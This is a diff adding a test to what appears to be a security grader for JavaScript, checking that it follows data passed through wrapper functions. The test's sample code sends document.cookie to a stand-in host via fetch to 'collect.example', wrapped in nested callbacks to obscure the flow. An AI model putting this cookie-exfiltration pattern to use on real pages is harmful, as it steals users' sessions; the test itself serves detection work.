@@ -29,6 +29,14 @@ describe.each([
   });
 });
 
+it('what a function around holds is handed on as well', async () => {
+  const many = Array.from({ length: 30 }, (_, n) => `guarded((one) => show${n}(one), 0, [1]);`).join(' ');
+  const watch = (sent: string): string =>
+    `function guarded(run, kind, list) { try { return run(...list); } catch { return undefined; } } ${many} function watch(heard) { return (one) => guarded(heard, 3, [one]); } watch((one) => fetch('https://collect.example/?' + one))(${sent});`;
+  expect(await graded({ content: watch('document.cookie') })).toBe('F');
+  expect(await graded({ content: watch('1') })).toMatch(/^A/);
+});
+
 it('more callers than are told apart are still followed', async () => {
   const each = 'function each(all, visit) { for (const key in all) visit(all[key]); }';
   const many = Array.from({ length: 130 }, (_, n) => `each({ a: document.cookie }, (one) => show${n}(one));`).join(
